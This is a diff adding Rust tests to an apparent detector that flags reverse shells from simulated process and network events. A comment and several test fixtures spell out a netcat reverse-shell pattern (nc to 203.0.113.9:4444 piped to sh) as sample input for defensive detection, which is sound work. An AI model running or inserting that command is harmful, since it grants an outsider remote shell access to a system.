@@ -25,6 +25,48 @@ fn a_shell_on_a_connection_is_a_reverse_shell() {
 }
 
 #[test]
+fn a_shell_beside_a_program_on_a_connection_is_one_too() {
+    let expected = Behaviour::ReverseShell;
+    // nc HOST PORT < fifo | sh > fifo, whichever end comes first.
+    names(
+        |story| {
+            story.exec(11, "/usr/bin/nc.openbsd", &["nc", "203.0.113.9", "4444"]);
+            story.exec(12, "/usr/bin/dash", &["sh"]);
+            story.connects(11, "203.0.113.9:4444");
+        },
+        expected,
+    );
+    names(
+        |story| {
+            story.exec(11, "/usr/bin/nc.openbsd", &["nc", "203.0.113.9", "4444"]);
+            story.connects(11, "203.0.113.9:4444");
+            story.exec(12, "/usr/bin/bash", &["bash", "-i"]);
+        },
+        expected,
+    );
+}
+
+#[test]
+fn a_shell_after_a_program_on_a_connection_or_for_a_script_is_none() {
+    // It has ended, or it was started long before.
+    is_silent(|story| {
+        story.exec(11, "/usr/bin/nc.openbsd", &["nc", "203.0.113.9", "80"]);
+        story.connects(11, "203.0.113.9:80").ends(11);
+        story.exec(12, "/usr/bin/dash", &["sh"]);
+    });
+    is_silent(|story| {
+        story.exec(11, "/usr/bin/node", &["node", "server.js"]);
+        story.connects(11, "203.0.113.9:80").wait(3);
+        story.exec(12, "/usr/bin/dash", &["sh"]);
+    });
+    is_silent(|story| {
+        story.exec(11, "/usr/bin/node", &["node", "server.js"]);
+        story.connects(11, "203.0.113.9:80");
+        story.exec(12, "/usr/bin/dash", &["sh", "test.sh"]);
+    });
+}
+
+#[test]
 fn a_shell_with_a_command_after_a_fetch_is_none() {
     is_silent(|story| {
         story.connects(P, "203.0.113.9:443").fork(P, 11).fork(P, 12);
